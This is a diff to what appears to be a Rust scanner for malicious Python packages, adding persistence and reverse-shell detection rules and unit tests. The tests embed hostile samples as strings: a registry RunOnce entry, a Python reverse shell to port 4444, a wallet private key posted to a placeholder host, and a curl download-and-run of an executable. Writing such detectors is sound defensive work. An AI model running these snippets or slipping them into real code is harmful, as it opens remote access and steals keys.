@@ -1126,6 +1126,53 @@ fn lexical(rules: &Rules, text: &[u8], role: Role) -> Vec<MemberFinding> {
         });
     }
 
+    // Something registered to run again; a reverse shell.
+    let line_text = |line: u32| -> &[u8] {
+        text.split(|b| *b == b'\n')
+            .nth(line.saturating_sub(1) as usize)
+            .unwrap_or_default()
+    };
+    if let Some(p) = of(Kind::Persistence).first() {
+        // Named in a message or a comment it is a word; with a program
+        // started or a file written beside it, it is done.
+        let acted = of(Kind::Process)
+            .iter()
+            .any(|h| h.line.abs_diff(p.line) <= 6)
+            || (p.line.saturating_sub(6)..=p.line + 6)
+                .any(|l| line_text(l).windows(7).any(|w| w == b".write("))
+            || line_text(p.line).windows(10).any(|w| w == b"SetValueEx");
+        out.push(MemberFinding {
+            rule: RuleId::Persistence,
+            severity: if hot {
+                Severity::Critical
+            } else if acted {
+                Severity::High
+            } else {
+                Severity::Medium
+            },
+            confidence: if acted { Confidence::High } else { Confidence::Medium },
+            line: Some(p.line),
+            message: format!(
+                "registers something to run again (a start-up entry, a schedule or a shell's start-up file) {}",
+                role.describe()
+            ),
+            evidence: vec![("snippet".into(), snippet(text, p.offset))],
+        });
+    }
+    if let Some(r) = of(Kind::RemoteShell).first() {
+        out.push(MemberFinding {
+            rule: RuleId::DownloadExec,
+            severity: grade(Severity::Critical, Severity::High),
+            confidence: Confidence::High,
+            line: Some(r.line),
+            message: format!(
+                "opens a reverse shell: a shell's input and output are a network connection {}",
+                role.describe()
+            ),
+            evidence: vec![("snippet".into(), snippet(text, r.offset))],
+        });
+    }
+
     // setup.py doing more than building.
     if role == Role::Install {
         if let Some(p) = processes.first()
@@ -1538,6 +1585,34 @@ mod tests {
             rules_of("p/pkg/m.py", lookup, &[])
                 .iter()
                 .all(|(_, s)| *s <= Severity::Low)
+        );
+    }
+
+    #[test]
+    fn persistence_reverse_shells_wallet_keys_and_list_downloads() {
+        let run_key = "import subprocess\nsubprocess.Popen('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce /v x /d y.exe')\n";
+        assert!(
+            rules_of("p/setup.py", run_key, &[])
+                .contains(&(RuleId::Persistence, Severity::Critical))
+        );
+        // Named in help text at a module's top level: a word, medium.
+        let words = "HELP = 'add the line to ~/.bashrc'\n";
+        assert_eq!(
+            rules_of("p/pkg/cli.py", words, &[]),
+            vec![(RuleId::Persistence, Severity::Medium)]
+        );
+        let shell = "import socket, os, pty\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n";
+        assert!(
+            rules_of("p/pkg/__init__.py", shell, &[])
+                .contains(&(RuleId::DownloadExec, Severity::Critical))
+        );
+        // A wallet's private key handed to a function that posts it.
+        let key = "import requests\ndef perm(private_key):\n    requests.post('https://x.example/api', [{'k', private_key}])\n";
+        assert_eq!(exfil_of("p/pkg/main.py", key), vec![Severity::High]);
+        // curl's output file started.
+        let curl = "import subprocess, os\npath = os.environ['TEMP'] + '\\\\a.exe'\nsubprocess.call(['curl.exe', URL, '-o', path])\nsubprocess.call([path])\n";
+        assert!(
+            rules_of("p/setup.py", curl, &[]).contains(&(RuleId::DownloadExec, Severity::Critical))
         );
     }
 }
